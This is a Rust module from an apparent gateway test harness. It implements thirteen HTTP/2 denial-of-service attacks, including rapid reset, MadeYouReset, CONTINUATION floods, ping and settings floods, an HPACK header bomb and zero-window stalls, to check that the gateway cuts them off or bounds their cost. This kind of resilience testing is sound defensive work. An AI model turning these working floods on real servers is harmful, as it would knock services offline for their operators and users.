//! The attacks. Each runs on one connection until the gateway ends it or the time is over, and says whether the gateway ended it.

use crate::harness::http2::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, Http2, INITIAL_WINDOW, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE,
    block, frame, integer, string,
};
use crate::harness::{KEY, openai};
use std::net::SocketAddr;
use std::time::{Duration, Instant};

pub(super) struct Attack {
    pub name: &'static str,
    /// Whether the gateway must end such connections; else bounded cost is enough.
    pub is_refused: bool,
    pub run: fn(SocketAddr, Instant) -> bool,
}

const fn refused(name: &'static str, run: fn(SocketAddr, Instant) -> bool) -> Attack {
    Attack { name, is_refused: true, run }
}

const fn borne(name: &'static str, run: fn(SocketAddr, Instant) -> bool) -> Attack {
    Attack { name, is_refused: false, run }
}

pub(super) fn attacks() -> [Attack; 13] {
    [
        refused("rapid reset", rapid_reset),
        refused("made you reset: a window of nothing", window_of_nothing),
        refused("made you reset: data behind the end", data_behind_the_end),
        refused("continuation without end", continuations),
        refused("empty continuations without end", empty_continuations),
        borne("settings", settings),
        borne("pings", pings),
        borne("windows", windows),
        borne("priorities", priorities),
        borne("empty data", empty_data),
        borne("headers that unfold", headers_that_unfold),
        borne("windows that stay closed", closed_windows),
        borne("streams without a body", streams_without_a_body),
    ]
}

/// The head of a chat request.
fn head(length: Option<usize>) -> Vec<u8> {
    let authorization = format!("Bearer {KEY}");
    let length = length.map(|length| length.to_string());
    let mut headers: Vec<(&[u8], &[u8])> = vec![
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", b"/v1/chat/completions"),
        (b":authority", b"gateway"),
        (b"authorization", authorization.as_bytes()),
        (b"content-type", b"application/json"),
    ];
    if let Some(length) = &length {
        headers.push((b"content-length", length.as_bytes()));
    }
    block(&headers)
}

/// A whole chat request on one stream.
fn chat(stream: u32, body: &[u8]) -> Vec<u8> {
    [frame(HEADERS, END_HEADERS, stream, &head(Some(body.len()))), frame(DATA, END_STREAM, stream, body)].concat()
}

/// Sends what `next` gives for stream after stream, a handful at once, and reads what comes meanwhile.
fn streams(address: SocketAddr, until: Instant, next: impl Fn(u32) -> Vec<u8>) -> bool {
    let mut http2 = Http2::connect(address, &[]);
    let mut stream = 1;
    while Instant::now() < until && stream < 1 << 24 {
        let burst: Vec<u8> = (0..50).flat_map(|number| next(stream + number * 2)).collect();
        stream += 100;
        if !http2.send(&burst) {
            return true;
        }
        http2.frames(Duration::ZERO, |_| false);
        if http2.ended {
            return true;
        }
    }
    false
}

/// Sends the same bytes over and over and reads nothing, until no more is taken.
fn repeat(address: SocketAddr, until: Instant, first: &[u8], again: &[u8]) -> bool {
    let mut http2 = Http2::connect(address, &[]);
    let burst = again.repeat((16 << 10) / again.len() + 1);
    http2.send(first);
    while Instant::now() < until {
        if !http2.send(&burst) {
            return true;
        }
    }
    false
}

/// CVE-2023-44487: asked and taken back at once.
fn rapid_reset(address: SocketAddr, until: Instant) -> bool {
    let body = openai::chat("m").to_string();
    streams(address, until, |stream| [chat(stream, body.as_bytes()), frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())].concat())
}

/// CVE-2025-8671: the caller breaks a rule so that the server resets the stream, while its work may go on.
fn window_of_nothing(address: SocketAddr, until: Instant) -> bool {
    let body = openai::chat("m").to_string();
    streams(address, until, |stream| [chat(stream, body.as_bytes()), frame(WINDOW_UPDATE, 0, stream, &0_u32.to_be_bytes())].concat())
}

/// The same with data on a stream that the caller has ended.
fn data_behind_the_end(address: SocketAddr, until: Instant) -> bool {
    let body = openai::chat("m").to_string();
    streams(address, until, |stream| [chat(stream, body.as_bytes()), frame(DATA, 0, stream, b"more")].concat())
}

/// CVE-2024-27316 and its kin: a block of headers that never ends.
fn continuations(address: SocketAddr, until: Instant) -> bool {
    let filler = block(&[(b"x-filler", &[b'x'; 1_000])]);
    repeat(address, until, &frame(HEADERS, 0, 1, &head(None)), &frame(CONTINUATION, 0, 1, &filler))
}

/// The same with frames that hold nothing: only their number grows.
fn empty_continuations(address: SocketAddr, until: Instant) -> bool {
    repeat(address, until, &frame(HEADERS, 0, 1, &head(None)), &frame(CONTINUATION, 0, 1, &[]))
}

/// CVE-2019-9515: each must be acknowledged, and nobody reads the acknowledgements.
fn settings(address: SocketAddr, until: Instant) -> bool {
    let window = [INITIAL_WINDOW.to_be_bytes().as_slice(), &65_535_u32.to_be_bytes()].concat();
    repeat(address, until, &[], &frame(SETTINGS, 0, 0, &window))
}

/// CVE-2019-9512: the same with pings.
fn pings(address: SocketAddr, until: Instant) -> bool {
    repeat(address, until, &[], &frame(PING, 0, 0, b"12345678"))
}

fn windows(address: SocketAddr, until: Instant) -> bool {
    repeat(address, until, &[], &frame(WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()))
}

fn priorities(address: SocketAddr, until: Instant) -> bool {
    repeat(address, until, &[], &frame(PRIORITY, 0, 3, &[0, 0, 0, 1, 7]))
}

/// CVE-2019-9518: frames of a body that bring nothing.
fn empty_data(address: SocketAddr, until: Instant) -> bool {
    repeat(address, until, &frame(HEADERS, END_HEADERS, 1, &head(None)), &frame(DATA, 0, 1, &[]))
}

/// An entry of nearly the table's size, named again and again: few bytes that are a great many headers.
fn headers_that_unfold(address: SocketAddr, until: Instant) -> bool {
    let mut first = head(None);
    first.push(0x40);
    string(&mut first, b"x-bomb");
    string(&mut first, &[b'b'; 4_000]);
    let mut again = head(None);
    for _ in 0..10_000 {
        // The newest entry of the table.
        integer(&mut again, 7, 0x80, 62);
    }
    let ended = streams(address, until, |stream| {
        let block = if stream == 1 { &first } else { &again };
        frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
    });
    // One answer after the other, as fast as the other side takes them.
    std::thread::sleep(Duration::from_millis(10));
    ended
}

/// Answers of five megabytes each that nobody lets come.
fn closed_windows(address: SocketAddr, until: Instant) -> bool {
    let mut http2 = Http2::connect(address, &[(INITIAL_WINDOW, 0)]);
    let body = openai::chat_stream("m").to_string();
    for number in 0..50 {
        if !http2.send(&chat(number * 2 + 1, body.as_bytes())) {
            return true;
        }
    }
    while Instant::now() < until && !http2.ended {
        http2.frames(Duration::from_millis(100), |_| false);
    }
    http2.ended
}

/// Requests whose bodies are announced and never come.
fn streams_without_a_body(address: SocketAddr, until: Instant) -> bool {
    let mut http2 = Http2::connect(address, &[]);
    for number in 0..1_000 {
        if !http2.send(&frame(HEADERS, END_HEADERS, number * 2 + 1, &head(Some(1_000)))) {
            return true;
        }
        http2.frames(Duration::ZERO, |_| false);
    }
    while Instant::now() < until && !http2.ended {
        http2.frames(Duration::from_millis(100), |_| false);
    }
    http2.ended
}
